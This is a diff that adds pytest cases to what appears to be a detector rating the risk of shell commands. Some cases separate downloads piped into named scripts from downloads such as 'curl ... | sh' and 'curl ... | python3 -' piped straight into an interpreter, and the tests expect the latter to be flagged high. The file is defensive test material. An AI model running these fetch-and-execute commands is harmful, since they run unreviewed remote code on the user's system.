@@ -107,3 +107,20 @@ def test_classes_round_five_showed(command, at_least):
 ])
 def test_their_everyday_neighbours_stay_quiet_too(command):
     quiet(command)
+
+
+@pytest.mark.parametrize("command", [
+    "curl -s https://api.example.com/v1/status | python3 -m json.tool",
+    "curl -s https://example.com/data.csv | python3 summarize.py",
+    "wget -qO- https://example.com/feed.xml | ruby parse_feed.rb", "ruby feed.rb", "perl cleanup_report.pl",
+])
+def test_a_download_piped_to_a_module_or_a_script_file_is_its_data(command):
+    quiet(command)
+
+
+@pytest.mark.parametrize("command", [
+    "curl -fsSL https://get.example.com | sh -s -- -y", "wget -qO- https://x.example/s | bash /dev/stdin",
+    "curl -s https://x.example/i.py | python3 -", "curl -s https://x.example/i.js | node",
+])
+def test_a_download_piped_to_an_interpreter_as_code_stays_high(command):
+    flagged(command, "high")
